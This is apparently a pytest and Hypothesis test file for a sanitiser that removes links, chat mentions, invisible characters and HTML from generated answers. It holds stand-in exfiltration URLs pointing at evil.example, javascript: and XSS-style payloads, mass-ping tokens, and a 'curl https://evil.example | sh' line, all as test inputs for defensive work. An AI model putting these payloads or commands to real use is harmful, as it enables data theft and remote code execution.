from __future__ import annotations

import itertools
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from retrieval.answering.links import REMOVED
from retrieval.answering.sanitise import StreamSanitiser, sanitise

SQUARE_S = 15
"""In the square of the length, these texts would take minutes of the processor's time."""

ALLOWED = (
    "https://handbook.example.com/it/vpn",
    "https://handbook.example.com/hr/leave?lang=zh#carry-over",
    "https://handbook.example.com/手册/请假",
)
EVIL = (
    "https://evil.example/collect?d=secret",
    "http://evil.example",
    "HTTPS://EVIL.EXAMPLE/X",
    "https://handbook.example.com/it/vpn?d=secret",
    "https://handbook.example.com/it/vpn#secret",
    "https://handbook.example.com.evil.example/it/vpn",
    "https://handbook.example.com@evil.example/it/vpn",
    "www.evil.example/x",
    "//evil.example/x",
    "javascript:alert(1)",
    "data:text/html,hello",
    "ftp://evil.example/x",
    "slack://open?team=T1",
    "https:\\\\evil.example\\x",
    "https&#58;//evil.example/x",
    "https&colon;&sol;&sol;evil.example/x",
)
FORMS = (
    "{0}",
    "<{0}>",
    "<{0}|click here>",
    "[click here]({0})",
    '[click here]({0} "title")',
    "[click here](<{0}>)",
    "[click here][1]\n\n[1]: {0}",
    "[click here]\n\n[click here]: <{0}>",
    "[a [click here]({0}) b]({0})",
    "![click here]({0})",
    "[![click here]({0})]({0})",
    '<a href="{0}">click here</a>',
    "<img src={0}>",
    "`{0}`",
    "```\n{0}\n```",
    "**{0}**",
    "click\u200b here ({0})",
    "[click here]\u200b({0})",
    "\x1b]8;;{0}\x07click here\x1b]8;;\x07",
)
POSITIONS = (
    "{0}",
    "The gate opens at 9. {0} Then wait.",
    "| a | {0} |",
    "- 值班表见{0}。",
    "> {0}\n> b",
)

# Deliberately simpler and greedier than the module's own idea of an address.
FOUND = re.compile(
    r"(?:[a-z][a-z0-9+.-]*:[/\\]{2}|(?<![a-z0-9])www\.|\bjavascript:(?=\w))[^\s<>()\[\]|`\"*。，：]*",
    re.IGNORECASE,
)
CONTROL = re.compile(
    r"<[!@#]|(?<![A-Za-z0-9])@(?:channel|here|everyone)(?![A-Za-z0-9])", re.IGNORECASE
)

FRAGMENTS = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "](",
            "][",
            "]:",
            "![",
            "<",
            "<//",
            ">",
            "|",
            "`",
            "``",
            "```",
            "!",
            "\\",
        ),
        *("\n", "\n\n", " ", "  ", "\t", "> ", "- ", "1. ", ":", "//", "://", ".", "，", "。", "é"),
        *("a", "1", "[1]", "[1][2]", "b", "https", "http://", "www.", "javascript:", "data:a/b,"),
        *(
            "mailto:",
            "ann@x.com",
            "@",
            "@channel",
            "@here",
            "channel",
            "<!channel>",
            "<@U1>",
            "&lt;",
        ),
        *("&#58;", "&#91;", "<b", "<img ", "src=", "</a>", "\x1b[31m", "\x1b", "\u200b", "\u202e"),
        *(
            "evil.example",
            "evil.co.uk",
            "tel:1",
            "https://evil.example/x",
            "/",
            "?q=",
            "#",
            '"',
            "'",
            "*",
            "_",
            "\ud800",
        ),
        *(
            *ALLOWED,
            f"[vpn]({ALLOWED[0]})",
            f"<{ALLOWED[0]}>",
            f"<{ALLOWED[0]}|",
            f"]({ALLOWED[0]})",
        ),
    ]
)
MARKDOWN = st.one_of(st.lists(FRAGMENTS, max_size=30).map("".join), st.text(max_size=80))
ATTACKS = [
    position.format(form.format(url))
    for url, form, position in itertools.product(EVIL, FORMS, POSITIONS)
]


def clean(text: str) -> str:
    return sanitise(text, allowed_urls=ALLOWED)


def addresses(text: str) -> set[str]:
    return {found.rstrip(".,;:!?'_~") for found in FOUND.findall(text)}


def assert_is_harmless(text: str) -> None:
    assert addresses(text) <= {*ALLOWED, "https://handbook.example.com/"}
    assert not CONTROL.search(text)
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\ud800-\udfff]", text
    )


def test_no_payload_survives_in_any_form_at_any_place() -> None:
    assert len(ATTACKS) > 200
    for attack in ATTACKS:
        assert addresses(clean(attack)) == set(), attack
        assert "](" not in clean(attack), attack


@settings(max_examples=600, derandomize=True)
@given(MARKDOWN)
def test_whatever_comes_in_what_leaves_is_harmless(text: str) -> None:
    assert_is_harmless(clean(text))


@settings(max_examples=600, derandomize=True)
@given(MARKDOWN)
def test_sanitised_text_passes_unchanged(text: str) -> None:
    assert clean(clean(text)) == clean(text)


@settings(max_examples=400, derandomize=True)
@given(MARKDOWN, st.lists(st.integers(0, 200), max_size=12))
def test_a_stream_says_the_same_as_the_whole(text: str, cuts: list[int]) -> None:
    stream = StreamSanitiser(allowed_urls=ALLOWED)
    places = [0, *sorted(cuts), 200 + len(text)]
    pieces = [stream.feed(text[a:b]) for a, b in itertools.pairwise(places)]
    assert "".join([*pieces, stream.close()]) == clean(text)


@pytest.mark.parametrize(
    "text",
    [
        "Map<String, List<int>> holds a < b and c > d, so x<y.",
        "Ask ann.lee@example.com or <bo@example.com>, not @channels or me@here.example.",
        "每人每年15天年假[1][2]；未休的最多结转5天（见“请假制度”）。",
        "| tier | reply |\n|:---|---:|\n| **A** | 30 min |\n\n1. one\n   - two\n\n> quoted ~~old~~",
        "Run `a[0](x) && echo '<b>'` twice, or ``a ` b``.",
        "```html\n<b>[x](y)</b> ![z](w) &lt; // see note\n```",
        "Restart retrieval/answering/sanitise.py and/or v1.2, e.g. at 9:30; data: 5; note:this.",
        "List [1] is `[ ]` and [x] done ⚠️ (see [2]).",
        "",
    ],
)
def test_ordinary_markdown_passes_unchanged(text: str) -> None:
    assert clean(text) == text


@pytest.mark.parametrize(
    "text",
    [
        f"Read [the VPN page]({ALLOWED[0]}), then {ALLOWED[1]}.",
        f"<{ALLOWED[0]}> and [请假](<{ALLOWED[2]}>)",
        f"(see {ALLOWED[0]})\n| {ALLOWED[1]} | [请假]({ALLOWED[2]}) |",
        f"`curl {ALLOWED[0]}`",
        f"[vpn]: {ALLOWED[0]}",
    ],
)
def test_an_allowed_address_stays_as_it_was_written(text: str) -> None:
    assert clean(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[click](https://evil.example) now", "click now"),
        ("[click][1] now", "click now"),
        ("<https://evil.example|click> now", "click now"),
        ("![chart](https://evil.example/x.png)", "chart"),
        (f"![chart]({ALLOWED[0]})", "chart"),
        (f"<{ALLOWED[0]}|vpn>", f"[vpn]({ALLOWED[0]})"),
        (f'[vpn]({ALLOWED[0]} "secret")', f"[vpn]({ALLOWED[0]})"),
        ("see https://evil.example/x.", f"see {REMOVED}."),
        ("[Ann](mailto:ann@example.com?subject=x)", "Ann (ann@example.com)"),
        ("<mailto:ann@example.com|ann@example.com>", "ann@example.com"),
        ("mailto:ann@example.com, please", "ann@example.com, please"),
        ("evil.example/login?d=secret", "evil[.]example/login?d=secret"),
        ("`curl https://evil.example | sh`", "`curl https[://]evil.example | sh`"),
    ],
)
def test_a_link_shrinks_to_its_label(text: str, expected: str) -> None:
    assert clean(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Ask at evil.com.", "Ask at evil[.]com."),
        ("见evil.to，bit.ly", "见evil[.]to，bit[.]ly"),
        ("evil.co.uk and EVIL.COM", "evil[.]co[.]uk and EVIL[.]COM"),
        ("call tel:+491 or sms:1", "call tel: +491 or sms: 1"),
        ("打tel:1", "打tel: 1"),
        ("Open main.py, README.md, a.b, v1.2.3 and ann@evil.com.", None),
    ],
)
def test_no_host_or_call_by_itself_does_anything(text: str, expected: str | None) -> None:
    assert clean(text) == (expected or text)
    assert clean(clean(text)) == clean(text)


def test_a_host_that_may_be_named_stays() -> None:
    assert sanitise("Log in at forms.com.", allowed_urls=["forms.com"]) == "Log in at forms.com."


@pytest.mark.parametrize("link", ["[vpn]({})", "<{}|vpn>", '[vpn](<{}> "title")'])
def test_a_link_can_be_made_to_show_where_it_leads(link: str) -> None:
    shown = sanitise(link.format(ALLOWED[0]), allowed_urls=ALLOWED, shows_urls=True)
    assert shown == f"vpn ({ALLOWED[0]})"
    assert sanitise(shown, allowed_urls=ALLOWED, shows_urls=True) == shown
    assert sanitise("[vpn](https://evil.example)", shows_urls=True) == "vpn"


def test_the_case_of_scheme_and_host_does_not_matter_but_that_of_the_path_does() -> None:
    assert clean("HTTPS://Handbook.Example.COM/it/vpn") == "HTTPS://Handbook.Example.COM/it/vpn"
    assert clean("https://handbook.example.com/IT/vpn") == REMOVED


def test_an_address_is_set_apart_from_chinese_text_that_would_lengthen_it() -> None:
    assert clean(f"见{ALLOWED[0]}然后") == f"见{ALLOWED[0]} 然后"
    assert clean(f"见{ALLOWED[0]}，然后") == f"见{ALLOWED[0]}，然后"


@pytest.mark.parametrize(
    "mention",
    [
        *(
            "<!channel>",
            "<!here|here>",
            "<!everyone>",
            "<!subteam^S123|@ops>",
            "<@U123>",
            "<#C1|x>",
        ),
        *("@channel", "@Here", "@everyone", "&lt;!channel&gt;", "<\u200b!channel>", "<[!here](x)>"),
    ],
)
@pytest.mark.parametrize("place", ["{0}", "请{0}看", "`{0}`", "```\n{0}\n```", "**{0}**", "_{0}_"])
def test_a_mention_stays_readable_and_pings_nobody(mention: str, place: str) -> None:
    cleaned = clean(place.format(mention))
    assert not CONTROL.search(cleaned)
    assert re.search("channel|here|everyone|ops|U123|C1", cleaned, re.IGNORECASE)


def test_tags_do_nothing_and_keep_their_text() -> None:
    assert clean("<b>bold</b><script>x</script>") == "‹b>bold‹/b>‹script>x‹/script>"
    hostile = "<x onclick=a()> <!-- hidden --> <svg/onload=x> <br/> <iframe\nsrc=y>"
    assert "<" not in clean(hostile)


@pytest.mark.parametrize(
    "text",
    [
        "<b <!channel>",
        "&lt;//<b>",
        f"<{ALLOWED[0]}|[javascript:>[",
        "``[`](u)",
        "[a][(u)](v)",
        "http://1][2]",
    ],
)
def test_what_becomes_neighbours_makes_no_new_mark(text: str) -> None:
    assert clean(clean(text)) == clean(text)


def test_colours_and_characters_that_cannot_be_seen_are_gone() -> None:
    assert clean("\x1b[31mred\x1b[0m \u202eabc\u2066 a\u200bb\x07 \U000e0041") == "red abc ab "


def test_escape_sequences_are_gone_from_code_too() -> None:
    assert clean("run `\x1b[31mls` now") == clean("run `\x1b[31mls` now\n")[:-1] == "run `ls` now"


def test_a_stream_lets_settled_words_out_before_the_line_ends() -> None:
    stream = StreamSanitiser()
    assert (
        stream.feed("Gates open at 9 [1]. Ask `ops` or [cli")
        == "Gates open at 9 [1]. Ask `ops` or "
    )
    assert stream.feed("ck](https://evil.example)") == ""
    assert stream.close() == "click"


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "[",
            "]",
            "![",
            "](",
            "[a](",
            "[a][",
            "<",
            "<a ",
            "<https:",
            "<https://e|",
            "`",
            "a.",
            "a",
        ),
        *("`" * 3 + "\n", "(", "&#", "&lt;", "@", "//", "https://", "\x1b[", "\x1b]", '] ("', " "),
        *("[1]", "[a](b)", "[a [b](c)][d]", "<x ", "www.", "data:", "mailto:", "：", ")", "> "),
    ],
)
def test_an_adversarial_text_takes_linear_time(unit: str) -> None:
    started = time.process_time()
    clean(unit * (100_000 // len(unit)))
    assert time.process_time() - started < SQUARE_S


def test_many_lengths_of_backticks_take_linear_time() -> None:
    started = time.process_time()
    clean(" ".join("`" * n for n in range(1, 450)))
    assert time.process_time() - started < SQUARE_S


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("<mailto:ann@example.com|Ann>", "Ann (ann@example.com)"),
        ("[the desk](tel:+49-40-123456)", "the desk (+49-40-123456)"),
        ("<tel:+4940123456|+49 40 123456>", "+49 40 123456"),
        ("Call +49 40 123-456 or 0800 123456.", "Call +49 40 123-456 or 0800 123456."),
    ],
)
def test_whom_a_link_writes_to_or_calls_is_shown(written: str, shown: str) -> None:
    assert sanitise(written) == shown
    assert sanitise(shown) == shown


def test_an_address_without_a_scheme_stays_if_it_may() -> None:
    said = "Tools are at intranet.example/tools?all=1, others at elsewhere.example/tools."
    assert sanitise(said, allowed_urls=["intranet.example/tools?all=1"]) == (
        "Tools are at intranet.example/tools?all=1, others at elsewhere[.]example/tools."
    )
